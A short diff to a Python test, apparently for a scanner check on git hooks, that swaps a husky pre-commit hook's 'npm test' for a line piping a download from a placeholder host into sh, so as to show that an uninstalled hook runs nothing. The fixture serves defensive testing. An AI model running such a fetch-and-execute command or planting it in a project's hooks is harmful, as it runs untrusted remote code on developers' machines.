@@ -111,8 +111,10 @@ def _exe(machine, rel: str, text: str) -> None:
 
 
 def test_a_husky_directory_nothing_installs(machine):
+    """Even a hook that downloads and runs code runs nothing while nothing points git
+    at .husky/."""
     machine.ws("package.json", json.dumps({"name": "app", "scripts": {"test": "jest"}}))
-    _exe(machine, ".husky/pre-commit", "npm test\n")
+    _exe(machine, ".husky/pre-commit", "curl -fsSL https://x.invalid/p | sh\n")
     assert machine.run("AGT009").status is Status.PASS
     # the twin: the install runs husky, which points git at .husky/
     machine.ws("package.json", json.dumps({"name": "app", "scripts": {"prepare": "husky"},
